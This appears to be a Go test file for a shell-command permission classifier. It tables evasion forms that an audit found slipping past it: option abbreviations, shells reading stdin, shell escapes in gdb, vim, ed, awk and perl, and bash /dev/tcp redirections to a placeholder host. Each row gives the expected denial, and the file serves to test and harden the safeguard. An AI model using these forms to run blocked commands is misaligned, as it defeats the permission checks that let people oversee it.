package shell

import "testing"

// bypassTable holds command lines found by the session-2 bypass audit:
// each ran a denied program, contacted the network or read code the
// classifier did not see, and was reported as harmless. Every row was
// checked against the real tool (bash, GNU env, util-linux su/runuser/
// script, awk, perl, gdb, vim, ed) with a harmless echo in place of git
// push. Same columns as table (table_test.go).
var bypassTable = []tcase{
	// Abbreviated long options and option clusters: getopt_long accepts a
	// unique prefix ("--comm" for "--command") and clusters ("-iS").
	{line: "env -iS 'git push'", progs: "env git", deny: "git:push", net: "git:push"},
	{line: "env -vS 'git push'", progs: "env git", deny: "git:push"},
	{line: "env -0iu X git push", progs: "env git", deny: "git:push"},
	{line: "env --spl='git push'", progs: "env git", deny: "git:push"},
	{line: "env --s 'git push'", progs: "env git", deny: "git:push"},
	{line: "env --ch /tmp git push", progs: "env git", deny: "git:push"},
	{line: "su --comm='git push'", progs: "su git", deny: "git:push"},
	{line: "su --co 'git push' root", progs: "su git", deny: "git:push"},
	{line: "runuser --comm='git push' x", progs: "runuser git", deny: "git:push"},
	{line: "runuser -u x --comm 'git push'", progs: "runuser git", deny: "git:push"},
	{line: "script -q --comm 'git push' /dev/null", progs: "script git", deny: "git:push"},
	{line: "chroot --user u:g / git push", progs: "chroot git", deny: "git:push"},

	// A shell started with no command reads its script from stdin.
	{line: "sudo -s <<< 'git push'", progs: "sudo git", deny: "git:push"},
	{line: "sudo -i <<< 'git push'", progs: "sudo git", deny: "git:push"},
	{line: "doas -s <<< 'git push'", progs: "doas git", deny: "git:push"},
	{line: "su <<< 'git push'", progs: "su git", deny: "git:push"},
	{line: "su - root <<< 'git push'", progs: "su git", deny: "git:push"},
	{line: "chroot / <<< 'git push'", progs: "chroot git", deny: "git:push"},
	{line: "unshare -r <<< 'git push'", progs: "unshare git", deny: "git:push"},
	{line: "sg grp <<< 'git push'", progs: "sg git", deny: "git:push"},
	{line: "newgrp <<< 'git push'", progs: "newgrp git", deny: "git:push"},
	{line: "script -q /dev/null <<< 'git push'", progs: "script git", deny: "git:push"},
	{line: "echo x | su", progs: "echo su", unp: "pipe", deny: unp},
	// Other names of stdin, and code read from it.
	{line: "sh /proc/self/fd/0 <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "sh /dev/fd/0 <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "awk -f - <<< 'BEGIN{system(\"git push\")}'", progs: "awk git", deny: "git:push"},
	{line: "awk -f /dev/stdin <<< 'BEGIN{system(\"git push\")}'", progs: "awk git", deny: "git:push"},
	{line: "cat f | awk -f -", progs: "cat awk", unp: "pipe", deny: unp},
	{line: "perl /dev/stdin <<< 'system(\"git push\")'", progs: "perl git", deny: "git:push"},
	// Stdin redirected for later commands, or from a process substitution.
	{line: "exec 0<<< 'git push'; bash", progs: "exec bash", unp: "exec without a command", deny: unp},
	{line: "exec < /dev/stdin; sh", progs: "exec sh", unp: "exec without a command", deny: unp},
	{line: "{ exec <<<'git push'; sh; }", progs: "exec sh", unp: "exec without a command", deny: unp},
	{line: "sh < <(echo git push)", progs: "sh echo", unp: "pipe", deny: unp},
	{line: "python3 < <(echo 'import os')", progs: "python3 echo", unp: "pipe", deny: unp},
	// A nested shell, or a command find runs, inherits the outer stdin.
	{line: "sh -c 'sh' <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "bash -c 'bash -s' <<< 'git push'", progs: "bash git", deny: "git:push"},
	{line: "eval sh <<< 'git push'", progs: "eval sh git", deny: "git:push"},
	{line: "find . -maxdepth 0 -exec sh \\; <<< 'git push'", progs: "find sh git", deny: "git:push"},

	// Editors and debuggers that run shell commands.
	{line: "gdb -batch -ex 'shell git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex '!git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch --eval-command='shell git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex run --args git push", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex 'run push' git", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex 'python import os; os.system(\"git push\")'", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex 'call system(\"git push\")' -p 1", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex bt ./a.out core", progs: "gdb a.out"},
	{line: "vim -c '!git push' -c q", progs: "vim", unp: "runs Ex commands", deny: unp},
	{line: "vim --cmd '!git push'", progs: "vim", unp: "runs Ex commands", deny: unp},
	{line: "vi -es +'!git push' +q", progs: "vi", unp: "runs an Ex command", deny: unp},
	{line: "vim -es <<< '!git push'", progs: "vim", unp: "standard input", deny: unp},
	{line: "vim +10 f", progs: "vim"},
	{line: "vim +/TODO f", progs: "vim"},
	{line: "ed <<< '!git push'", progs: "ed", unp: "hold !", deny: unp},
	{line: "ed -s f <<< $'r !git push'", progs: "ed", unp: "hold !", deny: unp},
	{line: "ed -s f <<< $'1d\\nw'", progs: "ed"},

	// Interpreter exec primitives the heuristic did not know.
	{line: "lua -e 'os.execute(\"git push\")'", progs: "lua git", deny: "git:push"},
	{line: "Rscript -e 'system2(\"git\", \"push\")'", progs: "rscript git", deny: "git:push"},

	// bash opens a socket for a redirection to /dev/tcp|udp/HOST/PORT.
	{line: "cat < /dev/tcp/h.example/80", progs: "cat", unp: "opens a network connection", deny: unp},
	{line: "echo x > /dev/tcp/h.example/80", progs: "echo", unp: "opens a network connection", deny: unp},
	{line: "exec 3<>/dev/udp/h.example/53", progs: "exec", unp: "opens a network connection", deny: unp},
	{line: "F=/dev/tcp/h.example/80; cat < $F", progs: "cat", unp: "may be /dev/tcp", deny: unp},
	{line: "cat < \"/dev/$P/h.example/80\"", progs: "cat", unp: "may be /dev/tcp", deny: unp},
	{line: "while read l; do :; done < <(git ls-files)", progs: "read : git", net: "-"},
	{line: "cat < /dev/null > out.txt", progs: "cat", write: "out.txt|> out.txt"},
	// Network clients outside the HTTP/git/ssh families.
	{line: "openssl s_client -connect h.example:443", progs: "openssl", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write", dom: "h.example"},
	{line: "openssl x509 -in c.pem -noout", progs: "openssl", net: "-"},
	{line: "busybox ftpget h.example f", progs: "busybox ftpget", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
}

func TestBypassTable(t *testing.T) {
	seen := map[string]bool{}
	for _, tc := range bypassTable {
		if seen[tc.line] {
			t.Errorf("duplicate row %q", tc.line)
		}
		seen[tc.line] = true
	}
	for _, tc := range table {
		if seen[tc.line] {
			t.Errorf("row %q is in table too", tc.line)
		}
	}
	runTable(t, bypassTable)
}
